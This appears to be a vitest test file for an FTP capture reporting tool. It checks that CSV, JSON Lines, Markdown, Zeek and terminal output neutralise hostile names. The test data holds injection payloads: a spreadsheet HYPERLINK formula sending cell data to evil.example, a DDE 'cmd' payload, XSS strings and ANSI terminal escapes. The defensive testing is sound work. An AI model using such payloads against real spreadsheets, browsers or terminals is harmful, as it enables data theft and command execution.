// samples/hostile-names.pcapng: user names, passwords, file names and a banner made to break spreadsheets,
// tables and terminals. Every view must stay well-formed, and nothing meant for a terminal may carry a raw
// control character.
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { runReport } from '../../src/api.js';
import { buildProgram } from '../../src/cli/program.js';
import type { Report } from '../../src/model.js';
import { renderCsv } from '../../src/reports/csv.js';
import { renderJsonl } from '../../src/reports/jsonl.js';
import { renderMarkdown } from '../../src/reports/markdown.js';
import { renderSummary } from '../../src/reports/summary.js';
import { TABLE_COLUMNS, TABLE_NAMES, tableRows } from '../../src/reports/tables.js';
import { ftpUrl, renderZeekFtpLog } from '../../src/reports/zeek.js';
import { parseZeekLog } from '../peer/zeek-log.js';
import { HOSTILE, SAMPLE_CAPTURES, reportOf } from './report-sources.js';

const SAMPLE = 'samples/hostile-names.pcapng';
/** C0 controls, DEL and C1 controls: what a terminal may act on (ESC starts ANSI sequences, U+009B is CSI). */
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
// eslint-disable-next-line no-control-regex
const RAW_CONTROL_OR_TAB_LF = /[\u0000-\u001f\u007f-\u009f]/;

/** Runs the CLI program in-process with stdout a (pretend) terminal; returns what it printed. */
async function onTerminal(args: string[]): Promise<string> {
  let out = '';
  const program = buildProgram({ stdout: (t) => (out += t), stderr: () => {}, stderrIsTty: true, stdoutIsTty: true });
  await program.parseAsync(['node', 'ftp-report', HOSTILE, '--no-progress', ...args]);
  return out;
}

describe('the hostile-names sample', () => {
  let report: Report;
  /** The same capture with its files read (--files): the files table has a row per hostile name. */
  let withFiles: Report;
  const reportFor = (table: string): Report => (table === 'files' ? withFiles : report);
  beforeAll(async () => {
    report = await reportOf(SAMPLE);
    withFiles = { ...(await runReport({ capture: HOSTILE, files: true })), capture: report.capture };
  });

  it('is bundled and holds the hostile values it was made with', () => {
    expect(SAMPLE_CAPTURES).toContain(SAMPLE);
    const s = report.sessions[0]!;
    expect(report.sessions).toHaveLength(1);
    expect(s.banner).toContain('\u001b[1m');
    expect(s.login.attempts.map((a) => a.user)).toEqual([
      '=HYPERLINK("http://evil.example/?q="&A1,"click me")',
      "@cmd|' /C calc'!A0",
      '\u001b[31mred-user\u001b[0m',
      '<script>alert("x")</script>',
      '-ok,"user"|<b>',
    ]);
    expect(s.login.attempts.map((a) => a.password)).toEqual([
      '+SUM(1,2),"quoted, comma"',
      '-2+3|pipe|`backtick`',
      // bytes e9 74 e9 20 c3 28 20 9b …: not UTF-8, so kept byte for byte (Latin-1), 0x9b included
      'été Ã( \u009b31m not utf-8',
      'pass\rword with a CR inside',
      '@pass`word',
    ]);
    expect(s.login.outcome).toBe('success');
    expect(s.transfers.filter((t) => t.command === 'STOR').map((t) => t.arg)).toEqual([
      '=HYPERLINK("evil.example?q=1","x").txt',
      '+1+1,"quoted".txt',
      '-rf |pipe| `tick`.txt',
      '@SUM(A1)<script>alert(1)<img src=x onerror=alert(2)>.txt',
      '\u001b[31mred\u001b[0m.txt',
      'bad-é\u0080Ã(-utf8.txt',
      '\tTAB=1+1.txt',
      '\r=CR-prefix.txt',
      'cr\rinside.txt',
      'café — ok.txt',
    ]);
    expect(s.transfers.every((t) => t.status === 'complete' && (t.bytes ?? 0) > 0)).toBe(true);
    expect(s.commands.find((c) => c.command === 'DELE')!.arg).toBe('\u001b]0;pwned\u0007.txt');
    expect(s.commands.find((c) => c.command === 'MKD')!.reply!.text).toBe('"/|a|b| `x`" directory created.');
  });

  it.each([...TABLE_NAMES])('gives well-formed CSV for %s: every row whole, no cell a formula', (table) => {
    const text = renderCsv(reportFor(table), table);
    const rows = parse(text, { columns: true, relax_column_count: false }) as Record<string, string>[];
    expect(rows).toHaveLength(tableRows(reportFor(table), table).length);
    for (const row of rows) {
      expect(Object.keys(row)).toEqual([...TABLE_COLUMNS[table]]);
      for (const [k, v] of Object.entries(row)) {
        // A text cell never starts like a formula; "-" only begins a number (e.g. a negative duration).
        expect(/^[=+@\t\r\uFF1D\uFF0B\uFF20\uFF0D]/.test(v), `${table}.${k} = ${JSON.stringify(v)}`).toBe(false);
        if (v.startsWith('-')) expect(Number.isFinite(Number(v)), `${table}.${k} = ${JSON.stringify(v)}`).toBe(true);
      }
    }
  });

  it.each([...TABLE_NAMES])('gives well-formed JSON Lines for %s, with no raw control character', (table) => {
    const text = renderJsonl(reportFor(table), table);
    expect(RAW_CONTROL_OR_TAB_LF.test(text.replace(/\n/g, ''))).toBe(false);
    const lines = text.trimEnd().split('\n');
    expect(lines).toHaveLength(tableRows(reportFor(table), table).length);
    for (const l of lines) expect(Object.keys(JSON.parse(l) as object)).toEqual([...TABLE_COLUMNS[table]]);
  });

  it('gives Markdown whose tables keep their shape: every row has as many cell pipes as its header', () => {
    const md = renderMarkdown(report);
    expect(RAW_CONTROL_OR_TAB_LF.test(md.replace(/\n/g, ''))).toBe(false);
    const unescapedPipes = (line: string) =>
      [...line.matchAll(/(\\*)\|/g)].filter((m) => m[1]!.length % 2 === 0).length;
    let fence = false;
    let header: number | null = null;
    let tables = 0;
    md.split('\n').forEach((line, i) => {
      if (line.startsWith('```')) fence = !fence;
      if (fence || !line.startsWith('|')) {
        header = null;
        return;
      }
      const n = unescapedPipes(line);
      if (header === null) {
        header = n;
        tables += 1;
      } else expect(n, `line ${i + 1}: ${line}`).toBe(header);
    });
    expect(tables).toBeGreaterThan(2);
  });

  it('gives a Zeek log that reads back: every row whole, values escaped, arguments as sent', () => {
    const text = renderZeekFtpLog(report, { commands: 'all', showPasswords: true });
    for (const line of text.split('\n')) expect(RAW_CONTROL.test(line), line).toBe(false);
    const log = parseZeekLog(text);
    const s = report.sessions[0]!;
    expect(log.rows).toHaveLength(s.commands.length + 1);
    const stor = log.rows.filter((r) => r['command'] === 'STOR').map((r) => r['arg']);
    // PWD answered "/" first, so each name is joined to "/".
    expect(stor).toEqual(s.transfers.filter((t) => t.command === 'STOR').map((t) => ftpUrl(s.server.ip, '/', t.arg!)));
    expect(log.rows.filter((r) => r['command'] === 'PASS').map((r) => r['arg'])).toEqual(
      s.login.attempts.map((a) => a.password),
    );
    const hidden = parseZeekLog(renderZeekFtpLog(report, { commands: 'all' }));
    expect(hidden.rows.filter((r) => r['command'] === 'PASS').map((r) => r['password'])).toEqual(
      Array(5).fill('<hidden>'),
    );
    // The CWD into "|a|b| `x`" moves the tracked directory; CDUP moves it back.
    const dele = log.rows.find((r) => r['command'] === 'DELE')!;
    expect(dele['arg']).toBe('ftp://127.0.0.1/\u001b]0;pwned\u0007.txt');
  });

  it('prints no raw control character in the summary', () => {
    expect(RAW_CONTROL_OR_TAB_LF.test(renderSummary(report).replace(/\n/g, ''))).toBe(false);
  });

  it.each([
    ['summary', []],
    ['--json', ['--json']],
    ['--md', ['--md']],
    ['--zeek', ['--zeek', '--show-passwords']],
    ...TABLE_NAMES.map((t) => [`--csv ${t}`, ['--csv', t, ...(t === 'files' ? ['--files'] : [])]]),
    ...TABLE_NAMES.map((t) => [`--jsonl ${t}`, ['--jsonl', t, ...(t === 'files' ? ['--files'] : [])]]),
  ] as [string, string[]][])('%s on a terminal: no raw control character, no ANSI escape', async (_name, args) => {
    const out = await onTerminal(args);
    expect(out.length).toBeGreaterThan(0);
    expect(out.includes('\u001b')).toBe(false);
    expect(RAW_CONTROL.test(out.replace(/\t/g, ''))).toBe(false);
  });

  it('CSV on a terminal shows control characters as \\xNN; to a file or pipe it keeps them exact', async () => {
    const tty = parse(await onTerminal(['--csv', 'logins', '--csv-raw']), { columns: true }) as Record<
      string,
      string
    >[];
    expect(tty[2]!.user).toBe('\\x1b[31mred-user\\x1b[0m');
    expect(tty[3]!.password).toBe('pass\\x0dword with a CR inside');
    const file = parse(renderCsv(report, 'logins', { raw: true }), { columns: true }) as Record<string, string>[];
    expect(file[2]!.user).toBe('\u001b[31mred-user\u001b[0m');
  });
});
